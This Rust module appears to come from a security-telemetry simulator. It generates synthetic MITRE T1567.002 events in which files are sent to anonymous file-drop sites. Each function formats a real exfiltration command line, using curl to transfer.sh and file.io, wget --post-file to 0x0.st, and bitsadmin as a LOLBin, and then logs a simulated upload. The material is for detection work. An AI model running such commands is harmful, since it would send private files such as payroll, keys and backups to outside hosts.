//! T1567.002 to anonymous file-drop sites: curl -T to transfer.sh, curl -F
//! to file.io, wget --post-file to 0x0.st, and bitsadmin as a LOLBin.

use super::{home, meta, pick_host, shell, tool, work_time, Meta, Window, MB};
use crate::activity::Http;
use crate::clock::SEC;
use crate::scene::Scene;
use crate::world::Os;

fn http(method: &'static str, path: String, ua: &str, name: &str) -> Option<Http> {
    Some(Http {
        method,
        path,
        user_agent: ua.into(),
        content_type: "application/octet-stream",
        upload_name: Some(name.to_string()),
    })
}

pub fn curl_transfer_sh(sc: &mut Scene, win: Window) -> Option<Meta> {
    let h = pick_host(sc, Os::Linux, &[])?;
    let t = work_time(sc, win, crate::clock::HOUR);
    let name = format!(
        "{}.tar.gz",
        sc.rng.pick(&["customers_2026", "hr-export", "src-backup"])
    );
    let sh = shell(sc, h, t, false);
    let cmd = format!("curl -s -T /tmp/{name} http://transfer.sh/{name}");
    let p = tool(sc, h, t + 4 * SEC, &sh, "/usr/bin/curl", &cmd, None);
    let bytes = sc.rng.range(40, 600) * MB;
    sc.upload(
        t + 5 * SEC,
        h,
        &p,
        "transfer.sh",
        bytes,
        1,
        0,
        http("PUT", format!("/{name}"), "curl/8.5.0", &name),
        80,
    );
    Some(meta(
        sc,
        h,
        format!("curl -T uploads {name} to transfer.sh"),
        "T1567.002",
        "curl",
        "file-drop",
        "transfer.sh",
        "transfer.sh",
    ))
}

pub fn curl_file_io(sc: &mut Scene, win: Window) -> Option<Meta> {
    let h = pick_host(sc, Os::Windows, &[])?;
    let t = work_time(sc, win, crate::clock::HOUR);
    let home = home(sc, h);
    let name = format!(
        "{}.zip",
        sc.rng.pick(&["q4-numbers", "contracts", "payroll"])
    );
    let sh = shell(sc, h, t, false);
    let cmd =
        format!("curl.exe -F \"file=@{home}\\Documents\\{name}\" https://file.io/?expires=1d");
    let p = tool(
        sc,
        h,
        t + 3 * SEC,
        &sh,
        "C:\\Windows\\System32\\curl.exe",
        &cmd,
        Some("curl.exe"),
    );
    let bytes = sc.rng.range(20, 300) * MB;
    sc.upload(
        t + 4 * SEC,
        h,
        &p,
        "file.io",
        bytes,
        1,
        0,
        http("POST", "/?expires=1d".into(), "curl/8.9.1", &name),
        443,
    );
    Some(meta(
        sc,
        h,
        format!("curl -F posts {name} to file.io"),
        "T1567.002",
        "curl",
        "file-drop",
        "file.io",
        "file.io",
    ))
}

pub fn wget_0x0(sc: &mut Scene, win: Window) -> Option<Meta> {
    let h = pick_host(sc, Os::Linux, &[])?;
    let t = work_time(sc, win, crate::clock::HOUR);
    let name = format!("{}.tgz", sc.rng.pick(&["keys", "etc-backup", "db"]));
    let sh = shell(sc, h, t, false);
    let cmd = format!("wget -q -O- --post-file=/var/tmp/{name} https://0x0.st");
    let p = tool(sc, h, t + 3 * SEC, &sh, "/usr/bin/wget", &cmd, None);
    let bytes = sc.rng.range(5, 120) * MB;
    sc.upload(
        t + 4 * SEC,
        h,
        &p,
        "0x0.st",
        bytes,
        1,
        0,
        http("POST", "/".into(), "Wget/1.21.3", &name),
        443,
    );
    Some(meta(
        sc,
        h,
        format!("wget --post-file sends {name} to 0x0.st"),
        "T1567.002",
        "wget",
        "file-drop",
        "0x0.st",
        "0x0.st",
    ))
}

pub fn bitsadmin(sc: &mut Scene, win: Window) -> Option<Meta> {
    let h = pick_host(sc, Os::Windows, &[])?;
    let t = work_time(sc, win, crate::clock::HOUR);
    let name = format!("{}.7z", sc.rng.pick(&["arch", "backup", "upd"]));
    let sh = shell(sc, h, t, false);
    let cmd = format!("bitsadmin.exe /transfer upd /upload /priority foreground https://transfer.sh/{name} C:\\Users\\Public\\{name}");
    let p = tool(
        sc,
        h,
        t + 2 * SEC,
        &sh,
        "C:\\Windows\\System32\\bitsadmin.exe",
        &cmd,
        Some("bitsadmin.exe"),
    );
    // BITS hands the job to the service, which makes the connection.
    let svch = sc.running(
        h,
        crate::activity::Account::System,
        "C:\\Windows\\System32\\svchost.exe",
        "C:\\Windows\\System32\\svchost.exe -k netsvcs -p -s BITS",
    );
    let _ = p;
    let bytes = sc.rng.range(30, 400) * MB;
    sc.upload(
        t + 5 * SEC,
        h,
        &svch,
        "transfer.sh",
        bytes,
        1,
        0,
        http("BITS_POST", format!("/{name}"), "Microsoft BITS/7.8", &name),
        443,
    );
    Some(meta(
        sc,
        h,
        format!("bitsadmin /upload of {name} to transfer.sh (LOLBin)"),
        "T1567.002",
        "bitsadmin",
        "lolbin",
        "transfer.sh",
        "transfer.sh",
    ))
}
